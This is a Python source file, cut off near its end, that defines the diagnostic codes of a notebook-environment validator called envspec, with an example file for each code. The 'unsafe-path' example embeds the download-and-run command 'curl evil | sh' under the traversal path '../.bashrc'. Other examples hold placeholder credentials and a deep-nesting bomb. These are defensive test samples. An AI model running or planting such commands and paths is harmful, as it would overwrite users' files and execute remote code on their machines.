"""The registry of diagnostic codes: every code, documented once.

Codes are stable: once released a code is never renamed or reused.  Each
entry's example is a file the test suite validates, asserting that it reports
the code.  The docs page ``diagnostics`` is generated from this table.
"""

from __future__ import annotations

from types import MappingProxyType
from typing import Final

from envspec.diagnostics import CodeInfo
from envspec.formats._codes import FORMAT_ENTRIES
from envspec.payloads._codes import PAYLOAD_ENTRIES

_NB_HEAD = '{\n "cells": [],\n "metadata": {\n'
_NB_TAIL = '\n },\n "nbformat": 4,\n "nbformat_minor": 5\n}\n'
_SHA = "0123456789abcdef0123456789abcdef01234567"
_DIGEST = "sha256:" + "ab" * 32


def _nb(metadata: str) -> str:
    return _NB_HEAD + metadata + _NB_TAIL


def _env(body: str) -> str:
    return 'env_ver: "1.0"\n' + body


_ENTRIES: tuple[CodeInfo, ...] = (
    # ------------------------------------------------------------------ reading
    CodeInfo(
        "file-unreadable",
        "error",
        "The file cannot be read",
        "The file exists but could not be opened or read (permissions, a folder, a broken link, "
        "a named pipe), a folder to search cannot be listed, or envspec gave up on the file "
        "(then the hint says so); the other files are still handled.",
        "Check the path and the file's permissions.",
        "analysis.ipynb",
        "",
        ("unreadable",),
    ),
    CodeInfo(
        "not-utf8",
        "error",
        "The file is not valid UTF-8",
        "Notebooks and envspec files are UTF-8 JSON or YAML; Jupyter cannot open other encodings.",
        "Re-save the file as UTF-8.",
        "analysis.ipynb",
        _nb('  "title": "caf\udce9"'),
    ),
    CodeInfo(
        "bom",
        "error",
        "The file starts with a UTF-8 byte order mark",
        "Jupyter's reader rejects a notebook that starts with a byte order mark.",
        "Remove the first three bytes (EF BB BF), or re-save without a BOM.",
        "analysis.ipynb",
        "\ufeff" + _nb('  "title": "x"'),
    ),
    CodeInfo(
        "empty-file",
        "error",
        "The file is empty",
        "An empty file is neither a notebook nor an environment.",
        "Delete the file or restore its contents.",
        "analysis.ipynb",
        "",
    ),
    CodeInfo(
        "invalid-json",
        "error",
        "The file is not well-formed JSON",
        "Jupyter cannot open a notebook that is not JSON anywhere, cells included: a merge "
        "conflict left in a cell breaks the whole file.",
        "Fix the JSON at the line and column shown (often a leftover merge conflict marker).",
        "analysis.ipynb",
        '{\n "cells": [\n<<<<<<< HEAD\n ],\n "metadata": {}\n}\n',
    ),
    CodeInfo(
        "duplicate-key",
        "error",
        "A key appears twice in the same object of `metadata` or of an environment",
        "JSON readers keep the last value of a repeated key, silently: a reviewer reads the "
        "first `environment` (or `env_ver`, or file) while every tool uses the last one.",
        "Keep one of the two members, the one you mean, and delete the other.",
        "analysis.ipynb",
        _nb('  "environment": {"env_ver": "1.0", "python": "3.12", "python": "3.11"}'),
    ),
    CodeInfo(
        "integer-too-long",
        "error",
        "A number with more digits than Python's JSON reader accepts",
        "Python's `json` (which Jupyter and nbformat use) refuses integers of more than 4300 "
        "digits: Jupyter cannot open the notebook.",
        "Store the number as a string, or clear the output that holds it.",
        "analysis.ipynb",
        _nb('  "title": "x",\n  "big": ' + "9" * 4301),
    ),
    CodeInfo(
        "too-deep",
        "error",
        "The document is nested too deeply to read",
        "Readers (Python's json among them) give up on documents nested this deeply; "
        "such a file is almost certainly damaged or hostile.",
        "Remove the deeply nested value.",
        "analysis.ipynb",
        '{"cells": ' + "[" * 100000 + "]" * 100000 + ', "metadata": {}}',
    ),
    CodeInfo(
        "not-a-notebook",
        "error",
        "The JSON is not shaped like a notebook",
        "A notebook is a JSON object whose `metadata` is an object.",
        "Check that this is the notebook file you meant to commit.",
        "analysis.ipynb",
        '{"cells": [], "metadata": ["not", "an", "object"]}',
    ),
    CodeInfo(
        "invalid-yaml",
        "error",
        "YAML that cannot be parsed",
        "An envspec file, or an embedded conda environment, must be valid YAML.",
        "Fix the YAML at the line shown.",
        "environment.envspec.yaml",
        'env_ver: "1.0"\nfiles: [unclosed\n',
    ),
    CodeInfo(
        "yaml-alias",
        "error",
        "YAML anchors and aliases are not allowed",
        'Aliases let a tiny file expand into a huge document (an "anchor bomb"); '
        "environment files never need them.",
        "Write the repeated value out in full.",
        "environment.envspec.yaml",
        'env_ver: "1.0"\nenv: &vars {A: "1"}\nextensions:\n  demo: *vars\n',
    ),
    CodeInfo(
        "unknown-file-type",
        "error",
        "The file is neither a notebook nor an envspec file",
        "`envspec validate` reads `*.ipynb` notebooks and `*.envspec.yaml`, `*.envspec.yml`, "
        "`*.envspec.json` files.",
        "Pass notebooks, envspec files or folders; rename a standalone environment to "
        "`environment.envspec.yaml`.",
        "notes.txt",
        "hello\n",
    ),
    # ------------------------------------------------------- the environment object
    CodeInfo(
        "environment-missing",
        "error",
        "The notebook has no embedded environment",
        "Reported only with `--require`: the repository wants every notebook to carry its "
        "environment.",
        "Run `envspec pack NOTEBOOK` or add `metadata.environment`.",
        "analysis.ipynb",
        _nb('  "kernelspec": {"name": "python3", "display_name": "Python 3"}'),
        ("require",),
    ),
    CodeInfo(
        "environment-not-object",
        "error",
        "`metadata.environment` is not an object",
        "The environment must be a JSON object with an `env_ver`.",
        'Replace the value with an object such as `{"env_ver": "1.0"}`.',
        "analysis.ipynb",
        _nb('  "environment": "requirements.txt"'),
    ),
    CodeInfo(
        "legacy-env-key",
        "warning",
        "Environment stored under `metadata.env`",
        "The seed project's helper scripts wrote `metadata.env` instead of "
        "`metadata.environment`; other tools do not look there.",
        "Run `envspec migrate NOTEBOOK` to move it to `metadata.environment`.",
        "analysis.ipynb",
        _nb('  "env": {"container": "gcr.io/deeplearning-platform-release/tf-gpu"}'),
    ),
    CodeInfo(
        "env-version-missing",
        "error",
        "The environment has no `env_ver`",
        "Without a version a reader cannot know which rules apply.",
        'Add `"env_ver": "1.0"`.',
        "environment.envspec.yaml",
        "python: '3.12'\n",
    ),
    CodeInfo(
        "env-version-invalid",
        "error",
        "`env_ver` is not a `MAJOR.MINOR` string",
        '`env_ver` is a string such as `"1.0"`; a number (`1.0`) loses the minor\'s zeros.',
        'Write the version as a quoted string, e.g. `"1.0"`.',
        "environment.envspec.yaml",
        "env_ver: 1.0\n",
    ),
    CodeInfo(
        "env-version-unsupported",
        "error",
        "`env_ver` has a major version this tool does not know",
        "A new major may change meaning in ways an old reader cannot see, so readers reject it.",
        "Upgrade envspec, or migrate the document to a version it knows.",
        "environment.envspec.yaml",
        'env_ver: "2.0"\n',
    ),
    CodeInfo(
        "env-version-newer",
        "warning",
        "`env_ver` is a newer minor than this tool knows",
        "Minors only add fields, so the document is read; fields this version does not know "
        "are kept but not checked.",
        "Upgrade envspec to check every field.",
        "environment.envspec.yaml",
        'env_ver: "1.9"\nnew_field: true\n',
    ),
    CodeInfo(
        "env-version-legacy",
        "warning",
        "The environment uses the legacy `env_ver` 0.1",
        "0.1 is still read, but writers no longer produce it and it cannot say what 1.0 can "
        "(digests, kernels, hardware).",
        "Run `envspec migrate NOTEBOOK`.",
        "analysis.ipynb",
        _nb('  "environment": {"env_ver": "0.1", "requirements.txt": "numpy\\n"}'),
    ),
    # ---------------------------------------------------------------- structure
    CodeInfo(
        "wrong-type",
        "error",
        "A field has the wrong type",
        "Every field has one JSON type; readers in other languages depend on it.",
        "Use the type the spec gives for the field.",
        "environment.envspec.yaml",
        _env("python: 3.12\n"),
    ),
    CodeInfo(
        "missing-field",
        "error",
        "A required field is missing",
        "Some objects are meaningless without certain fields (a git source needs its commit).",
        "Add the field.",
        "environment.envspec.yaml",
        _env("git:\n  url: https://github.com/org/repo\n"),
    ),
    CodeInfo(
        "unknown-field",
        "error",
        "A field this version does not define",
        "Unknown fields are usually typos, and would be silently ignored by every reader. "
        "Tool-specific data belongs under `extensions`.",
        "Fix the spelling, or move the data to `extensions.<tool-name>`.",
        "environment.envspec.yaml",
        _env("pyhton: '3.12'\n"),
    ),
    CodeInfo(
        "unknown-file-name",
        "error",
        "An embedded file name outside the closed set of the version",
        "Each embedded file name has a defined meaning and a validator; other names would be "
        "unpacked but used by nothing.",
        "Use one of the names the spec lists (e.g. `postBuild` for a setup script).",
        "environment.envspec.yaml",
        _env('files:\n  setup.sh: "pip install numpy\\n"\n'),
    ),
    CodeInfo(
        "invalid-value",
        "error",
        "A field's value is outside what the spec allows",
        "Values follow small grammars (versions, quantities, names) so that every reader "
        "understands them the same way.",
        "Use a value of the form the message gives.",
        "environment.envspec.yaml",
        _env("hardware:\n  memory: 8 gigabytes\n"),
    ),
    CodeInfo(
        "duplicate-conda-file",
        "error",
        "Both `environment.yml` and `environment.yaml` are embedded",
        "Tools pick one of the two, and which one differs between tools.",
        "Keep one conda environment file.",
        "environment.envspec.yaml",
        _env(
            'files:\n  environment.yml: "dependencies: [numpy]\\n"\n'
            '  environment.yaml: "dependencies: [scipy]\\n"\n'
        ),
    ),
    # ----------------------------------------------------------- embedded files
    CodeInfo(
        "binary-content",
        "error",
        "An embedded file contains NUL characters",
        "Embedded files are text; a NUL byte means binary data was packed by mistake.",
        "Embed only text files.",
        "environment.envspec.yaml",
        _env('files:\n  apt.txt: "curl\\0"\n'),
    ),
    CodeInfo(
        "lone-surrogate",
        "error",
        "An embedded file contains a lone surrogate (`\\ud800`-`\\udfff` without its pair)",
        "A JSON escape of half a surrogate pair is not a character: the text cannot be written "
        "as UTF-8, so the file cannot be unpacked as it was.",
        "Re-pack the file from disk, or replace the escape with the character it was meant to be.",
        "analysis.ipynb",
        _nb('  "environment": {"env_ver": "1.0", "files": {"postBuild": "echo caf\\udce9\\n"}}'),
    ),
    CodeInfo(
        "requirement-invalid",
        "error",
        "A requirements line pip cannot read",
        "pip stops at the first line it cannot parse, so nothing gets installed.",
        "Write a PEP 508 requirement such as `numpy==2.1.0` or `numpy>=2`.",
        "environment.envspec.yaml",
        _env('files:\n  requirements.txt: "numpy=2.1\\n"\n'),
    ),
    CodeInfo(
        "requirement-include",
        "error",
        "A requirements file includes a file that is not embedded",
        "`-r`/`-c` name files on the author's disk; the notebook would not be self-contained.",
        "Inline the included requirements into the embedded requirements.txt.",
        "environment.envspec.yaml",
        _env('files:\n  requirements.txt: "-r base.txt\\n"\n'),
    ),
    CodeInfo(
        "requirement-local",
        "error",
        "A requirement points at a local path",
        "A path on the author's disk does not exist anywhere else.",
        "Depend on a published package, or on a git URL with a commit.",
        "environment.envspec.yaml",
        _env('files:\n  requirements.txt: "./libs/mypkg\\n"\n'),
    ),
    CodeInfo(
        "requirement-editable",
        "error",
        "An editable (`-e`) requirement",
        "Editable installs point at a working copy that does not travel with the notebook.",
        "Use a normal requirement; for a git source pin a commit: `pkg @ git+https://...@<sha>`.",
        "environment.envspec.yaml",
        _env('files:\n  requirements.txt: "-e ../mypkg\\n"\n'),
    ),
    CodeInfo(
        "conda-structure",
        "error",
        "A conda environment file with the wrong shape",
        "conda expects a mapping with a `dependencies` list of strings (and one `pip:` list).",
        "Follow the layout of `conda env export --from-history`.",
        "environment.envspec.yaml",
        _env('files:\n  environment.yml: "dependencies: numpy\\n"\n'),
    ),
    CodeInfo(
        "conda-spec-invalid",
        "error",
        "A conda dependency that is not a valid MatchSpec",
        "conda (and mamba, pixi, rattler) reject the whole environment.",
        "Write `name`, `name=version`, `name>=version` or `channel::name=version=build`.",
        "environment.envspec.yaml",
        _env('files:\n  environment.yml: "dependencies:\\n  - numpy===\\n"\n'),
    ),
    CodeInfo(
        "conda-prefix",
        "warning",
        "The conda environment records a machine-specific `prefix:`",
        "`prefix:` is a path on the author's machine; conda would try to create the environment "
        "there.",
        "Delete the `prefix:` line (`conda env export` writes it).",
        "environment.envspec.yaml",
        _env(
            'files:\n  environment.yml: "dependencies: ['
            'numpy]\\nprefix: /home/me/conda/envs/x\\n"\n'
        ),
    ),
    CodeInfo(
        "conda-unknown-key",
        "warning",
        "A key conda's environment files do not define",
        "conda ignores unknown keys, so what they say has no effect.",
        "Use `name`, `channels`, `dependencies` or `variables`.",
        "environment.envspec.yaml",
        _env('files:\n  environment.yml: "dependecies: [numpy]\\n"\n'),
    ),
    CodeInfo(
        "invalid-toml",
        "error",
        "An embedded TOML file that cannot be parsed",
        "`pylock.toml`, `Pipfile`, `Project.toml` and `Manifest.toml` are TOML.",
        "Fix the TOML at the line shown.",
        "environment.envspec.yaml",
        _env('files:\n  pylock.toml: "lock-version = \\n"\n'),
    ),
    CodeInfo(
        "pylock-structure",
        "error",
        "A `pylock.toml` without the keys PEP 751 requires",
        "Installers refuse a lock file without `lock-version`, `created-by` and `[[packages]]` "
        "entries that each have a `name`.",
        "Regenerate the lock file with a PEP 751 tool ("
        "`pip lock`, `uv export --format pylock.toml`).",
        "environment.envspec.yaml",
        _env("files:\n  pylock.toml: \"lock-version = '1.0'\\n\"\n"),
    ),
    CodeInfo(
        "pylock-version",
        "error",
        "A `pylock.toml` with an unsupported `lock-version`",
        "PEP 751 installers must reject a lock-version whose major they do not know.",
        "Regenerate the lock file as `lock-version = '1.0'`.",
        "environment.envspec.yaml",
        _env(
            "files:\n  pylock.toml: \"lock-version = '2."
            "0'\\ncreated-by = 'x'\\npackages = []\\n\"\n"
        ),
    ),
    CodeInfo(
        "runtime-invalid",
        "error",
        "A `runtime.txt` repo2docker cannot read",
        "repo2docker accepts `name-version`, `name-YYYY-MM-DD` and `name-version-YYYY-MM-DD`, "
        "and fails the build on anything else.",
        "Write e.g. `python-3.12` or `r-4.4-2024-06-01`.",
        "environment.envspec.yaml",
        _env('files:\n  runtime.txt: "python 3.12\\n"\n'),
    ),
    CodeInfo(
        "apt-invalid",
        "error",
        "An `apt.txt` line that is not a package name",
        "repo2docker passes each line to apt-get as a package to install; options and "
        "several packages on one line are not supported there.",
        "One Debian package per line, lower case (`libgl1`), optionally with a version "
        "(`curl=7.88.1-10`) or a release (`curl/bookworm-backports`); comments start with `#`.",
        "environment.envspec.yaml",
        _env('files:\n  apt.txt: "curl --no-install-recommends\\n"\n'),
    ),
    CodeInfo(
        "dockerfile-no-from",
        "error",
        "A Dockerfile without a `FROM` instruction",
        "Every image build starts from a base image.",
        "Start the Dockerfile with `FROM <image>` (only `ARG` may come before it).",
        "environment.envspec.yaml",
        _env('files:\n  Dockerfile: "RUN pip install numpy\\n"\n'),
    ),
    CodeInfo(
        "start-no-exec",
        "warning",
        "A `start` script that does not end by running its arguments",
        'repo2docker runs the notebook server through `start`; without `exec "$@"` the server '
        "never starts.",
        'End the script with `exec "$@"`.',
        "environment.envspec.yaml",
        _env('files:\n  start: "#!/bin/bash\\nexport A=1\\n"\n'),
    ),
    CodeInfo(
        "script-crlf-shebang",
        "error",
        "A `postBuild` or `start` script whose `#!` line ends with a Windows line ending",
        "The carriage return becomes part of the interpreter's name (`/bin/bash\\r`): the "
        "build or the launch fails with 'cannot execute: required file not found'.",
        "Save the script with Unix line endings (LF), e.g. `dos2unix postBuild`.",
        "environment.envspec.yaml",
        _env('files:\n  postBuild: "#!/bin/bash\\r\\nset -e\\r\\npip install .\\r\\n"\n'),
    ),
    CodeInfo(
        "script-crlf",
        "warning",
        "A `postBuild` or `start` script with Windows line endings",
        "The shell reads the carriage return as part of the last word of each line: commands "
        "fail with 'command not found' or act on names that end with it.",
        "Save the script with Unix line endings (LF), e.g. `dos2unix postBuild`.",
        "environment.envspec.yaml",
        _env('files:\n  postBuild: "set -e\\r\\npip install .\\r\\n"\n'),
    ),
    CodeInfo(
        "scheme-syntax",
        "error",
        "A Guix file (`manifest.scm`, `channels.scm`) that cannot be read",
        "Guix reads these files as Scheme; an unbalanced parenthesis or unclosed string stops it.",
        "Balance the parentheses and close the strings at the position shown.",
        "environment.envspec.yaml",
        _env('files:\n  manifest.scm: "(specifications->manifest\\n  \'(\\"python\\")\\n"\n'),
    ),
    CodeInfo(
        "pipfile-lock-invalid",
        "error",
        "A `Pipfile.lock` that is not a pipenv lock",
        "pipenv reads `Pipfile.lock` as JSON with `_meta` and `default` sections.",
        "Regenerate it with `pipenv lock`.",
        "environment.envspec.yaml",
        _env('files:\n  Pipfile.lock: "{}\\n"\n'),
    ),
    # ------------------------------------------------------------- typed fields
    CodeInfo(
        "image-invalid",
        "error",
        "An image reference that breaks the OCI reference grammar",
        "Container engines reject it before pulling.",
        "Write `[registry/]repository[:tag]` in lower case,"
        " e.g. `quay.io/jupyter/scipy-notebook:2024-05-27`; "
        "put the digest in `image.digest`.",
        "environment.envspec.yaml",
        _env("image:\n  ref: Quay.io/Jupyter/Scipy Notebook\n"),
    ),
    CodeInfo(
        "image-digest-invalid",
        "error",
        "A malformed image digest",
        "A digest is `sha256:` followed by 64 lower-case hex digits (or `sha512:` and 128).",
        "Copy the digest from `docker inspect` or the registry.",
        "environment.envspec.yaml",
        _env("image:\n  ref: python:3.12\n  digest: sha256:abc\n"),
    ),
    CodeInfo(
        "image-unpinned",
        "warning",
        "An image referenced by tag without a digest",
        "Tags move: the same tag can name a different image tomorrow.",
        "Add `image.digest` (e.g. from `docker buildx imagetools inspect REF`).",
        "environment.envspec.yaml",
        _env("image:\n  ref: quay.io/jupyter/scipy-notebook:latest\n"),
    ),
    CodeInfo(
        "git-commit-invalid",
        "error",
        "A git commit that is not a full hash",
        "Short hashes and branch names are not stable identifiers.",
        "Use the full commit hash (`git rev-parse HEAD`).",
        "environment.envspec.yaml",
        _env("git:\n  url: https://github.com/org/repo\n  commit: abc1234\n"),
    ),
    CodeInfo(
        "git-subdir-invalid",
        "error",
        "A git subdirectory that is absolute or leaves the repository",
        "`subdir` is a folder inside the repository.",
        "Write a relative path with `/` separators and no `..`.",
        "environment.envspec.yaml",
        _env(
            f"git:\n  url: https://github.com/org/repo\n  commit: {_SHA}\n  subdir: ../elsewhere\n"
        ),
    ),
    CodeInfo(
        "url-invalid",
        "error",
        "A URL that is not an absolute URL",
        "Fields that hold URLs need a scheme and a host.",
        "Write an absolute URL such as `https://github.com/org/repo`.",
        "environment.envspec.yaml",
        _env(f"git:\n  url: github.com/org/repo\n  commit: {_SHA}\n"),
    ),
    CodeInfo(
        "url-credentials",
        "error",
        "A URL with a user name or password in it",
        "Credentials in a notebook leak to everyone who gets a copy.",
        "Remove the credentials and give them at install time (pip's keyring, netrc, "
        "`PIP_INDEX_URL` in the launcher).",
        "environment.envspec.yaml",
        _env(
            'files:\n  requirements.txt: "--index-url https:/'
            '/me:hunter2@pypi.example.org/simple\\nnumpy\\n"\n'
        ),
    ),
    CodeInfo(
        "url-insecure",
        "warning",
        "A plain `http://` URL",
        "Without TLS anyone on the path can change what gets installed or deployed.",
        "Use `https://`.",
        "environment.envspec.yaml",
        _env("cloud:\n  - name: demo\n    handler_url: http://deploy.example.org/notebook\n"),
    ),
    CodeInfo(
        "secret",
        "error",
        "A value that looks like a secret (token, private key, cloud key)",
        "Anything in the environment travels with every copy of the notebook.",
        "Remove it, revoke it, and have the launcher supply it (declare the variable with `null`).",
        "environment.envspec.yaml",
        _env(
            'files:\n  postBuild: "export GITHUB_TOKEN=ghp_' + "a1B2c3D4e5F6g7H8i9J0" * 2 + '\\n"\n'
        ),
    ),
    CodeInfo(
        "secret-env-value",
        "error",
        "An environment variable with a secret-looking name has a value",
        "Variables named like `*_TOKEN`, `*_PASSWORD`, `*_SECRET` or `*_KEY` hold secrets.",
        "Declare the variable with `null`: the launcher must supply it.",
        "environment.envspec.yaml",
        _env("env:\n  WANDB_API_KEY: 0123456789abcdef\n"),
    ),
    # ------------------------------------------------------------- consistency
    CodeInfo(
        "kernel-mismatch",
        "warning",
        "The notebook's kernelspec names another kernel",
        "Jupyter starts the kernel named in `metadata.kernelspec`; a stale name (a kernel of the "
        "author's machine) hijacks the environment.",
        "Set `metadata.kernelspec.name` to the environment's `kernel.name`.",
        "analysis.ipynb",
        _nb(
            '  "environment": {"env_ver": "1.0", "kernel":'
            ' {"name": "python3", "language": "python"}},\n'
            '  "kernelspec": {"name": "conda-env-old-py",'
            ' "display_name": "old", "language": "python"}'
        ),
    ),
    CodeInfo(
        "kernel-language-mismatch",
        "error",
        "The kernelspec and the environment disagree on the language",
        "A Python environment cannot run an R notebook.",
        "Fix `kernel.language` or the notebook's kernelspec.",
        "analysis.ipynb",
        _nb(
            '  "environment": {"env_ver": "1.0", "kernel": {"name": "ir", "language": "python"}},\n'
            '  "kernelspec": {"name": "ir", "display_name": "R", "language": "R"}'
        ),
    ),
    CodeInfo(
        "python-mismatch",
        "error",
        "Two inputs pin different Python versions",
        "The `python` pin, `python=` in the conda file, `requires-python` in the lock file and "
        "`runtime.txt` must agree, or the environment cannot be built as written.",
        "Make every pin name the same Python.",
        "environment.envspec.yaml",
        _env('python: "3.12"\nfiles:\n  environment.yml: "dependencies:\\n  - python=3.10\\n"\n'),
    ),
    CodeInfo(
        "ignored-by-binder",
        "warning",
        "A file Binder (repo2docker) would ignore",
        "When several inputs coexist repo2docker picks one (a Dockerfile wins over everything, "
        "a conda file over requirements.txt and runtime.txt); the others are silently unused.",
        "Remove the ignored file, or fold its contents into the one that wins.",
        "environment.envspec.yaml",
        _env(
            'files:\n  environment.yml: "dependencies: ['
            'numpy]\\n"\n  requirements.txt: "scipy\\n"\n'
        ),
    ),
)

_ENTRIES += (
    # ------------------------------------------------------------------ migrate
    CodeInfo(
        "migration-conflict",
        "error",
        "The document mixes versions and cannot be migrated safely",
        "A notebook with both `metadata.environment` and the legacy `metadata.env`, a 0.1 document "
        "that also has 1.0 fields, or a cloud block that spells one key two ways with different "
        "values: any automatic choice could throw away what the user meant.",
        "Delete the outdated part by hand, then run `envspec migrate` again.",
        "analysis.ipynb",
        _nb(
            '  "env": {"container": "python:3.12"},\n'
            '  "environment": {"env_ver": "0.1", "container": "python:3.11"}'
        ),
        ("migrate",),
    ),
    CodeInfo(
        "migration-lossy",
        "error",
        "A downgrade would drop data",
        "The target version has no place for some fields (0.1 has no Python pin, kernel, hardware, "
        "environment variables or most file names); migrate never drops data silently.",
        "Pass `--lossy` to drop the listed items, or keep the newer version.",
        "analysis.ipynb",
        _nb(
            '  "environment": {"env_ver": "1.0", "python": "3.12",'
            ' "files": {"requirements.txt": "numpy\\n"}}'
        ),
        ("migrate", "to=0.1"),
    ),
    CodeInfo(
        "write-failed",
        "error",
        "The file could not be written",
        "The disk is full, the file system is read-only, or permissions forbid the write. The "
        "original file is untouched: envspec writes a temporary file and renames it.",
        "Free space or fix permissions, then run the command again.",
        "analysis.ipynb",
        _nb('  "environment": {"env_ver": "0.1", "requirements.txt": "numpy\\n"}'),
        ("migrate", "fsize-limit"),
    ),
)

_ENTRIES += (
    # ---------------------------------------------------------- pack and unpack
    CodeInfo(
        "binder-dir-conflict",
        "error",
        "Both `binder/` and `.binder/` exist",
        "repo2docker refuses a repository with both folders, so there is no single environment "
        "to pack.",
        "Keep one of the two folders.",
        "analysis.ipynb",
        _nb('  "kernelspec": {"name": "python3", "display_name": "Python 3"}'),
        ("pack", "mkdir=binder", "mkdir=.binder"),
    ),
    CodeInfo(
        "git-dirty",
        "warning",
        "The repository has uncommitted changes",
        "Pack records the HEAD commit; files changed since then are not in that commit, so the "
        "recorded source does not hold what the notebook was run with.",
        "Commit your changes, then pack again.",
        "analysis.ipynb",
        _nb('  "kernelspec": {"name": "python3", "display_name": "Python 3"}'),
        ("pack", "git-dirty"),
    ),
    CodeInfo(
        "file-exists",
        "error",
        "Unpack would overwrite an existing file",
        "Unpack never replaces files silently; the existing file may hold work that is not in the "
        "notebook.  A target folder (`-o`) that exists as a file is reported the same way.",
        "Unpack into an empty folder with `-o DIR`, or pass `--force` to replace the files.",
        "analysis.ipynb",
        _nb('  "environment": {"env_ver": "1.0", "files": {"requirements.txt": "numpy\\n"}}'),
        ("unpack", "exists=requirements.txt"),
    ),
    CodeInfo(
        "unsafe-path",
        "error",
        "An embedded file name that would write outside the target folder",
        "A name such as `../.bashrc` or `/etc/profile` in a notebook from someone else would "
        "overwrite files outside the folder you unpack into.",
        "Do not unpack this notebook; embedded names are plain file names from the spec's list.",
        "analysis.ipynb",
        _nb('  "environment": {"env_ver": "1.0", "files": {"../.bashrc": "curl evil | sh\\n"}}'),
        ("unpack",),
    ),
    CodeInfo(
        "embedded-file-kept",
        "warning",
        "An embedded file is not in the folder, and is kept",
        "A notebook you received carries files that your folder does not have; pack never "
        "removes an embedded file it was not asked to remove, so the environment still holds "
        "it, and it may no longer match the folder.",
        "Keep it if the notebook needs it (or `envspec unpack` it into the folder); to remove "
        "the embedded files the folder does not have, run `envspec pack --prune`.",
        "analysis.ipynb",
        _nb('  "environment": {"env_ver": "1.0", "files": {"apt.txt": "graphviz\\n"}}'),
        ("pack",),
    ),
    # ------------------------------------------------------- realizing (launch plans)
    CodeInfo(
        "launch-backend-unsupported",
        "error",
        "The backend asked for cannot realize this environment",
        "Each backend applies some inputs only: a container engine runs an image or builds a "
        "Dockerfile, Guix needs a manifest.scm, and the local backend cannot build a Dockerfile. "
        "Launching anyway would not give the environment the notebook declares.",
        "Choose the backend that applies the environment's inputs (or leave --backend out).",
        "environment.envspec.yaml",
        _env('files:\n  requirements.txt: "numpy\\n"\n'),
        ("plan", "backend=guix"),
    ),
    CodeInfo(
        "launch-tool-missing",
        "error",
        "The tool the backend needs is not installed",
        "The guix backend runs `guix`, the docker backend `docker` or `podman`; without it the "
        "environment cannot be realized here.",
        "Install the tool named in the message, or choose another backend with --backend.",
        "environment.envspec.yaml",
        _env('files:\n  manifest.scm: "(specifications->manifest (list \\"python\\"))\\n"\n'),
        ("plan", "no-tools"),
    ),
    CodeInfo(
        "launch-file-unsupported",
        "error",
        "An input the backend would need cannot be applied by it",
        "The file is the one Binder would select (a Julia `Project.toml`, `default.nix`, a "
        "`Pipfile`, an R `runtime.txt`...), and the backend cannot build it: launching without "
        "it would run another environment than the one declared.",
        "Run it with a backend that builds it (an image, --backend docker), or describe the "
        "environment with requirements.txt or environment.yml.",
        "environment.envspec.yaml",
        _env('files:\n  Project.toml: "[deps]\\n"\n'),
        ("plan",),
    ),
    CodeInfo(
        "launch-kernel-unsupported",
        "error",
        "The kernel's language is one the backend cannot provide",
        "The local backend installs a Python kernel (ipykernel); a notebook whose kernel is R "
        "or Julia would open with a kernel that cannot run it.",
        "Run it with a backend that provides that language (an image, --backend docker).",
        "environment.envspec.yaml",
        _env('kernel: {name: ir, language: r}\nfiles:\n  requirements.txt: "numpy\\n"\n'),
        ("plan",),
    ),
    CodeInfo(
        "launch-python-unavailable",
        "error",
        "No interpreter meets the Python pin",
        "The environment pins a Python version (`python`, or `runtime.txt`) and no interpreter "
        "of that version was found; a launcher never silently uses another version.",
        "Install that Python (for example `uv python install 3.12`), then launch again.",
        "environment.envspec.yaml",
        _env('python: "3.1"\n'),
        ("plan",),
    ),
    CodeInfo(
        "launch-variable-missing",
        "error",
        "A required environment variable was not supplied",
        "A variable declared `null` in `env` is supplied by the person launching (a token, a "
        "password); the notebook would fail without it, and its value is never written back.",
        "Supply it with `--env NAME=VALUE`, or go on without it with `--allow-missing-env`.",
        "environment.envspec.yaml",
        _env("env:\n  API_TOKEN: null\n"),
        ("plan",),
    ),
    CodeInfo(
        "launch-untrusted",
        "error",
        "Code from the notebook's author runs only when you trust it",
        "`postBuild`, `start`, a `Dockerfile` and Guix files are programs: running them for a "
        "notebook you received runs someone else's code on your machine. They never run by "
        "default, and are never skipped silently either.",
        "Read the file, then launch again with `--trust` (or sign the notebook with "
        "`jupyter trust`).",
        "environment.envspec.yaml",
        _env('files:\n  postBuild: "#!/bin/sh\\nset -e\\necho ready\\n"\n'),
        ("plan",),
    ),
    CodeInfo(
        "launch-machine-too-small",
        "error",
        "The machine is smaller than the notebook's `hardware`",
        "The notebook declares the minimum machine it needs (CPUs, memory, GPUs); on a smaller "
        "one it would fail or crawl, late and for no clear reason.",
        "Launch it on a larger machine, or go on anyway with `--accept-smaller-machine`.",
        "environment.envspec.yaml",
        _env("hardware:\n  cpu: 100000\n"),
        ("plan",),
    ),
    CodeInfo(
        "launch-file-superseded",
        "warning",
        "`requirements.txt` is not applied: `pylock.toml` is installed instead",
        "A lock file is the exact, resolved form of the requirements (`envspec lock` writes it "
        "from them); installing both could give two different sets of versions.",
        "Run `envspec lock --check` to see whether the lock still matches the requirements.",
        "environment.envspec.yaml",
        _env(
            "files:\n"
            '  requirements.txt: "numpy\\n"\n'
            '  pylock.toml: "lock-version = \\"1.0\\"\\ncreated-by = \\"uv\\"\\n'
            'packages = []\\n"\n'
        ),
        ("plan",),
    ),
    CodeInfo(
        "launch-file-not-applied",
        "warning",
        "An embedded file is not applied by the backend that runs the environment",
        "Some inputs belong to another backend (Guix files with the local backend, every file "
        "when a prebuilt image runs): the environment is realized without them.",
        "Choose the backend that applies the file with --backend, if that is what you meant.",
        "environment.envspec.yaml",
        _env(
            "files:\n"
            '  requirements.txt: "numpy\\n"\n'
            '  manifest.scm: "(specifications->manifest (list \\"python\\"))\\n"\n'
        ),
        ("plan",),
    ),
    # ------------------------------------------------------------------ lock
    CodeInfo(
        "pixi-lock-structure",
        "error",
        "An embedded pixi.lock with the wrong shape",
        "`pixi.lock` (env_ver 1.1) is the lock file of rattler and pixi: a YAML mapping with "
        "an integer `version` and, from version 4 on, an `environments` mapping and a "
        "`packages` list.  Tools that install from it refuse anything else.",
        "Write the file with a locking tool (`envspec lock`, `pixi lock`), not by hand.",
        "environment.envspec.yaml",
        'env_ver: "1.1"\nfiles:\n  pixi.lock: "environments: {}\\npackages: []\\n"\n',
    ),
    CodeInfo(
        "lock-no-inputs",
        "error",
        "There is nothing to lock",
        "`envspec lock` locks the embedded `requirements.txt` (into `pylock.toml`) and "
        "`environment.yml` (into `pixi.lock`); a notebook without either has nothing to lock.",
        "Embed the inputs first (`envspec pack`), then lock.",
        "analysis.ipynb",
        _nb('  "environment": {"env_ver": "1.0", "python": "3.12"}'),
        ("lock",),
    ),
    CodeInfo(
        "lock-failed",
        "error",
        "The inputs cannot be resolved to a lock",
        "The resolver (uv for pip, rattler for conda) found no set of packages that meets the "
